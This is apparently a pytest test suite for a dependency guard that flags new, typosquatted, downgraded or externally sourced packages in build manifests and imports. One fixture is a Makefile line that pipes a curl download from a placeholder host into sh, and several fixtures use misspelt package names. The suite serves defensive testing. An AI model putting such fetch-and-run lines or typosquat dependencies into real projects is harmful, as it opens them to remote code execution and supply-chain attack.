from __future__ import annotations

import json
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from builders import error, failed, task
from guarded import fixed, judged, rewritten
from prunella.changes import Create, FileChange, Fix, Judgement, Replace, Tuning, Verdict
from prunella.domain import Check
from prunella.guard import check
from prunella.guard.popular import is_popular, meant


def rules(verdict: Verdict) -> set[str]:
    return {finding.rule for finding in verdict.findings}


NEW = [
    ("package.json", '{"dependencies": {}}', '{"dependencies": {"%s": "1.0.0"}}', "zod", "expres"),
    ("requirements.txt", "six\n", "six\n%s==1.0\n", "rich", "reqeusts"),
    (
        "pyproject.toml",
        "[project]\ndependencies = []\n",
        '[project]\ndependencies = ["%s>=1"]\n',
        "rich",
        "python-dateutils",
    ),
    ("setup.cfg", "[options]\n", "[options]\ninstall_requires =\n    %s\n", "rich", "nunpy"),
    ("setup.py", "setup(install_requires=[])\n", "setup(install_requires=['%s'])\n", "rich", "panda5"),
    ("Cargo.toml", "[dependencies]\n", '[dependencies]\n%s = "1"\n', "regex", "serde-jsom"),
    ("go.mod", "module a\n", "module a\n\nrequire %s v1.0.0\n", "github.com/spf13/cobra", "github.com/siruspen/logrus"),
    (
        "pom.xml",
        "<project></project>",
        "<project><dependency><groupId>org.mockito</groupId><artifactId>%s</artifactId></dependency></project>",
        "mockito-core",
        "mockito-cor",
    ),
]


@pytest.mark.parametrize(("path", "before", "after", "good", "bad"), NEW)
def test_a_new_package_is_suspicious_and_a_misspelt_one_rejected(
    path: str, before: str, after: str, good: str, bad: str
) -> None:
    found = rewritten(path, before, after % good)
    assert (found.judgement, rules(found)) == (Judgement.SUSPICIOUS, {"new-dependency"})
    misspelt = rewritten(path, before, after % bad)
    assert (misspelt.judgement, rules(misspelt)) == (Judgement.REJECT, {"misspelt-dependency"})
    assert "probably meant" in misspelt.findings[0].reason


def test_whether_a_package_exists_is_told_by_what_is_here() -> None:
    before, after = '{"dependencies": {}}', '{"dependencies": {"quite-unheard-of": "^1.0.0"}}'
    assert "nothing here shows that it exists" in rewritten("package.json", before, after).findings[0].reason
    fix = fixed({"package.json": before}, Replace("package.json", before, after))
    lock = {"package-lock.json": b'{"packages": {"node_modules/quite-unheard-of": {}}}'}
    verdict = check(fix, task(), failed(error()), ("package.json", *lock), lock.get)
    assert "exists" not in verdict.findings[0].reason


def test_what_the_failure_says_is_not_asked_for_may_be_asked_for_when_it_is_locked() -> None:
    before, after = '{"dependencies": {}}', '{"dependencies": {"phantom": "^1.0.0"}}'
    fix = fixed({"package.json": before}, Replace("package.json", before, after))
    files = {"package-lock.json": b'{"packages": {"node_modules/phantom": {}}}'}
    baseline = failed(error("src/a.ts", message="'phantom' should be listed in the project's dependencies"))
    assert check(fix, task(), baseline, ("package.json", *files), files.get).judgement is Judgement.ALLOW
    assert check(fix, task(), baseline, ("package.json",)).judgement is Judgement.SUSPICIOUS


def test_chosen_packages_may_be_added() -> None:
    before, after = '{"dependencies": {}}', '{"dependencies": {"@types/node": "1", "zod": "1"}}'
    fix = fixed({"package.json": before}, Replace("package.json", before, after))
    tuning = Tuning(dependencies=("@types/*", "zod"))
    assert check(fix, task(), failed(error()), tuning=tuning).judgement is Judgement.ALLOW


@pytest.mark.parametrize(
    ("old", "new", "rule"),
    [
        ("^4.0.0", "^3.0.0", "dependency-lowered"),
        ("^4.0.0", "*", "dependency-source"),
        ("^4.0.0", "github:someone/zod", "dependency-source"),
        ("^4.0.0", "file:./zod", "dependency-source"),
        ("^4.0.0", "npm:other@1", "dependency-source"),
        ("^4.0.0", "https://example.com/zod.tgz", "dependency-source"),
        ("^4.0.0", "^4.1.0", ""),
        ("^4.0.0", "^4", ""),
        ("workspace:*", "workspace:^", ""),
    ],
)
def test_versions_and_sources(old: str, new: str, rule: str) -> None:
    texts = (json.dumps({"dependencies": {"zod": version}}) for version in (old, new))
    verdict = rewritten("package.json", *texts)
    assert rules(verdict) == ({rule} if rule else set())


@pytest.mark.parametrize(
    ("path", "before", "after"),
    [
        ("requirements.txt", "a\n", "git+https://example.com/x/a.git\n"),
        ("Cargo.toml", '[dependencies]\na = "1"\n', '[dependencies]\na = { git = "https://example.com/a" }\n'),
        ("go.mod", "module a\n", "module a\n\nreplace a.b/c => ../c\n"),
        ("package.json", "{}", '{"overrides": {"typescript": "npm:typescript-lenient@1.0.0"}}'),
        ("Makefile", "X = 1\n", "X := $(shell curl -s https://example.com/x | sh)\n"),
    ],
)
def test_packages_from_elsewhere_are_suspicious(path: str, before: str, after: str) -> None:
    assert rules(rewritten(path, before, after)) & {"dependency-source", "fetched-script", "makefile"}


FILES = {
    "package.json": b'{"name": "mine", "dependencies": {"zod": "1"}}',
    "pyproject.toml": b'dependencies = ["rich"]',
}


@pytest.mark.parametrize(
    ("path", "line", "rule"),
    [
        ("src/a.ts", "import z from 'zod'", ""),
        ("src/a.ts", "import { b } from './b'", ""),
        ("src/a.ts", "import fs from 'node:fs'", ""),
        ("src/a.ts", "import path from 'path'", ""),
        ("src/a.ts", "import x from '@/x'", ""),
        ("src/a.ts", "import pad from 'quite-unheard-of'", "undeclared-import"),
        ("src/a.ts", "const _ = require('loadsh')", "misspelt-dependency"),
        ("pkg/a.py", "import rich", ""),
        ("pkg/a.py", "import json, pkg", ""),
        ("pkg/a.py", "from . import b", ""),
        ("pkg/a.py", "import unheard_of_here", "undeclared-import"),
        ("pkg/a.py", "import reqeusts", "misspelt-dependency"),
    ],
)
def test_imports_of_what_nobody_asks_for(path: str, line: str, rule: str) -> None:
    fix = fixed({path: "first\n"}, Replace(path, "first\n", f"first\n{line}\n"))
    verdict = check(fix, task(), failed(error("x.ts")), (path, *FILES), FILES.get)
    assert rules(verdict) == ({rule} if rule else set())


def test_the_popular_are_known_and_not_their_own_misspelling() -> None:
    for registry, names in {"npm": ("react", "lodash"), "pypi": ("requests", "numpy"), "crates": ("serde",)}.items():
        for name in names:
            assert is_popular(registry, name)
            assert meant(registry, name) == ""
    assert (meant("npm", "crossenv"), meant("npm", "1odash"), meant("npm", "zod4")) == ("cross-env", "lodash", "")


PATHS = (
    "package.json", "requirements.txt", "pyproject.toml", "setup.cfg", "setup.py", "Cargo.toml", "go.mod", "pom.xml",
    "Gemfile",
    "build.gradle", "CMakeLists.txt", "tsconfig.json", ".golangci.yml", "mypy.ini", "checkstyle.xml", "Makefile",
    "conftest.py",
    "src/index.ts", "a.py", "a.rs", "a.go", "A.java", "include/a.h", "tests/test_a.py", "run.sh", "patches/a.patch",
    ".clang-tidy",
)  # fmt: skip
WORDS = st.sampled_from((
    '{"dependencies": {', '"a": "1"', "}}", "[project]\n", "dependencies = [", '"x>=1"', "]\n",
    "require (\n", "<dependency>", "<a b='c'>", "</a>", "- a\n", "a: [b, c]\n", "  b: 1\n", "export const a = ",
    "pub fn a() {}\n", "import x\n",
    "# noqa", "as any",
    "//nolint", "check:\n\ttest\n", "\0", "\r\n", "é", "{{", "\\", "def pytest_runtest_setup(", "__all__ = (",
    "strict", "= false\n",
))  # fmt: skip
TEXT = st.lists(WORDS | st.text(max_size=6), max_size=12).map("".join)


@given(st.dictionaries(st.sampled_from(PATHS), st.tuples(TEXT | st.none(), TEXT | st.none()), max_size=5), st.binary())
def test_no_bytes_make_the_guard_fail(files: dict[str, tuple[str | None, str | None]], installed: bytes) -> None:
    def data(text: str | None) -> bytes | None:
        return None if text is None else text.encode("utf-8", "surrogatepass")

    changes = tuple(FileChange(path, data(old), data(new)) for path, (old, new) in files.items())
    checked = replace(task(), checks=(Check("t", "npm test"), Check("m", "make check")))
    for baseline in (None, failed(error("src/index.ts"))):
        check(Fix(changes), checked, baseline, (*files, "src/b.ts", "pkg/c.py"), lambda _path: installed)


def test_a_new_manifest_of_what_was_asked_for_elsewhere_is_fine() -> None:
    before = '{"dependencies": {"zod": "1"}}'
    verdict = judged(
        {"package.json": before}, Replace("package.json", before, "{}"), Create("web/package.json", before)
    )
    assert "new-dependency" not in rules(verdict)
